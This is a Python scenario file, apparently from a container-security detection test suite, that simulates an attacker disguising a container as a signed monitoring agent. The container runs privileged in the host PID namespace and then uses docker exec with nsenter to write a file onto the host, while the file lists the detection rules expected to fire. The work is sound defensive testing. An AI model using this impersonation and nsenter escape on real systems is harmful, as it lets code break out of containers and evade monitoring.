"""A copy of the monitoring agent, built on the host, runs privileged and enters the host."""

from __future__ import annotations

import subprocess

from lab import Lab, LabError, Mount, WorkloadSpec
from scenarios.api import Expectation, Kind, Scenario
from scenarios.docker._platform import NODE_AGENT, rebuilt


class AgentLookalike(Scenario):
    id = "docker.escape.agent-lookalike"
    title = "Look-alike of the sanctioned monitoring agent, built on the host, escapes to the host"
    kind = Kind.ADVERSARY
    techniques = ("T1611", "T1610", "T1036.005")
    backends = ("docker",)
    expect = Expectation(
        fires=("stowaway.docker.privileged-container", "stowaway.docker.host-namespace"), within_s=15,
        may_fire={
            "stowaway.docker.image-impersonation": "Its image carries the agent's pipeline repository name "
                                                   "(platform/node-agent) without the pipeline's signature.",
            "stowaway.docker.exec-escape-tool": "It really runs nsenter into a host process through docker exec.",
            "stowaway.docker.sensitive-host-mount": "It really mounts the host's /proc and /sys, outside any "
                                                    "sanction since its image is not the signed agent.",
        })
    twin = "docker.escape.monitoring-agent"
    forges = ("privileged_agents/sanctioned_privileged_agents/node-monitoring-agent",)
    tags = ("escape", "privilege-escalation", "forged-sanction")
    description = (
        "Copies everything the sanctioned monitoring agent shows: it builds the agent's own Dockerfile, plus "
        "one step of its own, on the host (not through the pipeline, so unsigned) and tags it platform/node-"
        "agent, names the container node-agent-<hex>, and runs it exactly as the agent runs (its own command,"
        " privileged, host PID, /proc and /sys read-only). Then, through docker exec, it runs nsenter into "
        "the mount namespace of a host process the scenario started and writes a file into a lab-owned host "
        "directory. The scenario checks the file arrived on the host with the content written from the "
        "container."
    )

    def detonate(self, lab: Lab) -> None:
        image = lab.build_image(rebuilt(NODE_AGENT), tag=f"{NODE_AGENT.repository}:latest")
        target = lab.host_dir("state") / "inventory"
        host_process = subprocess.Popen(["sleep", "600"], stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
                                        stderr=subprocess.DEVNULL, start_new_session=True)
        lab.cleanup(f"stop host process {host_process.pid}", lambda: (host_process.kill(), host_process.wait()))
        lab.action("run the agent look-alike privileged in the host PID namespace")
        agent = lab.deploy(WorkloadSpec(
            role="node-agent", image=image, command=(), privileged=True, pid_mode="host",
            mounts=(Mount(source="/proc", target="/host/proc", read_only=True),
                    Mount(source="/sys", target="/host/sys", read_only=True))))
        token = f"inventory {host_process.pid}"
        lab.exec(agent, "nsenter", "-t", str(host_process.pid), "-m", "--", "sh", "-c", f"echo '{token}' > {target}")
        if not target.exists() or target.read_text().strip() != token:
            raise LabError(f"{target} was not written on the host from the container")
